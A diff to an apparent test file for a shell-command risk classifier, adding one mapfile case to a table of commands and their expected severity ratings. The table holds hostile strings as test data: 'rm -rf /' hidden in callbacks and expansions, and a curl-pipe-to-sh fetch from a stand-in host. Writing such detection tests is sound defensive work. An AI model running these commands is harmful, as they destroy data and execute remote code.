@@ -119,6 +119,7 @@ describe("builtins that evaluate strings, and backquotes in ${…} words, are ab
     ["mapfile -C eval -c 1 arr < f", "high", "dynamic.eval"],
     ["readarray -tC'rm -rf /' arr < f", "critical", "command.destroys-system"],
     ['mapfile -C "$cb" arr < f', "high", "dynamic.shell-code"],
+    ["mapfile $opts arr < f", "high", "dynamic.shell-code"],
     ["echo ${x:=`ls`}", "low", "substitution.command"],
     ["echo ${x:-`rm -rf /`}", "critical", "command.destroys-system"],
     ["x=abc; echo ${x#`curl -s http://example.test/x | sh`}", "critical", "dynamic.remote-code"],
